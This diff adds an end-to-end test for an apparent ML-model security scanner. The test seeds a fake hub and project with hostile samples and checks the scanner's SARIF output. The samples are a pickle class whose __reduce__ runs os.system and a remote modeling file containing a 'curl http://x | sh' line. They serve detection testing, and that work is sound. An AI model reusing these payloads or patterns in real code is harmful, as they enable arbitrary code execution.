@@ -1,0 +1,111 @@
+"""A realistic project through the CLI, with the remote pass against the loopback hub, as SARIF."""
+
+from __future__ import annotations
+
+import json
+import pickle
+from pathlib import Path
+
+import pytest
+
+from hubguard.cli import main
+from tests.fakehub import FakeHub
+from tests.fakehub.fixtures import fake_hub, isolated_hf_env  # noqa: F401  (pytest fixtures)
+from tests.formats.sarif_checks import assert_github_constraints, assert_valid_sarif
+
+
+class _Payload:
+    def __init__(self, canary: Path) -> None:
+        self.canary = canary
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os
+
+        return (os.system, (f"touch {self.canary}",))
+
+
+def _project(root: Path, canary: Path) -> None:
+    (root / ".git").mkdir()
+    (root / "src").mkdir()
+    (root / "src" / "train.py").write_text(
+        "import pickle\nimport torch\nfrom transformers import AutoModel\n\n"
+        'model = AutoModel.from_pretrained("org/evil", trust_remote_code=True)\n'
+        'weights = AutoModel.from_pretrained("org/pickle-only")\n'
+        'ghost = AutoModel.from_pretrained("org/ghost")\n'
+        "state = torch.load('ckpt.pt')\n"
+        "labels = pickle.load(open('l.pkl', 'rb'))  # hubguard: ignore[HG301]\n"
+    )
+    (root / "src" / "hub.py").write_text('import torch\nnet = torch.hub.load("someone/repo", "m", trust_repo=True)\n')
+    (root / "src" / "broken.py").write_text("import torch\ndef f(:\n    torch.load('x')\n")
+    for index in range(20):
+        (root / "src" / f"module_{index}.py").write_text(f"def f{index}(x):\n    return x + {index}\n")
+    notebook = {
+        "cells": [
+            {"cell_type": "code", "metadata": {}, "outputs": [], "source": ["import joblib\n", "m = joblib.load('m.joblib')\n"]}
+        ],
+        "metadata": {},
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    (root / "analysis.ipynb").write_text(json.dumps(notebook, indent=1))
+    del canary
+
+
+def _hub_repos(hub: FakeHub, canary: Path) -> None:
+    code = f"import os\nos.system('curl http://x | sh; touch {canary}')\nclass EvilModel:\n    pass\n"
+    hub.add_repo(
+        "org/evil",
+        {
+            "config.json": json.dumps({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}).encode(),
+            "modeling_evil.py": code.encode(),
+            "model.safetensors": b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ",
+        },
+    )
+    hub.add_repo(
+        "org/pickle-only",
+        {"config.json": b"{}", "pytorch_model.bin": pickle.dumps(_Payload(canary), protocol=2)},
+    )
+
+
+@pytest.mark.slow
+def test_realistic_project_as_sarif(
+    fake_hub: FakeHub,  # noqa: F811
+    isolated_hf_env: Path,  # noqa: F811
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    canary = tmp_path / "canary"
+    _project(project, canary)
+    _hub_repos(fake_hub, canary)
+    monkeypatch.chdir(project)
+    monkeypatch.setenv("HF_ENDPOINT", fake_hub.url)
+    monkeypatch.setenv("HF_TOKEN", "hf_e2eSECRETmarker0123456789")
+
+    outputs = []
+    for run in range(2):
+        output = tmp_path / f"run{run}.sarif"
+        code = main(["scan", "--format", "sarif", "--output", str(output), "--cache-dir", str(tmp_path / "c"), "."])
+        assert code == 1
+        outputs.append(output.read_bytes())
+    capsys.readouterr()
+    assert outputs[0] == outputs[1], "same input must give byte-identical SARIF (second run is served from cache)"
+    assert b"e2eSECRETmarker" not in outputs[0]
+    assert not canary.exists()
+
+    sarif = json.loads(outputs[0])
+    assert_valid_sarif(sarif)
+    assert_github_constraints(sarif)
+    results = sarif["runs"][0]["results"]
+    rules = {result["ruleId"] for result in results}
+    assert {"HG101", "HG102", "HG201", "HG301", "HG401", "HG402", "HG403", "HG404", "HG407"} <= rules
+    paths = {result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for result in results}
+    assert {"src/train.py", "src/hub.py", "analysis.ipynb"} <= paths
+    assert any(result.get("suppressions") == [{"kind": "inSource"}] for result in results)
+    remote = [result for result in results if result["ruleId"] == "HG402"]
+    assert remote and all(result.get("relatedLocations") for result in remote)
+    notifications = sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"]
+    assert any("broken.py" in json.dumps(notification) for notification in notifications)
+    assert sarif["runs"][0]["invocations"][0]["executionSuccessful"] is True
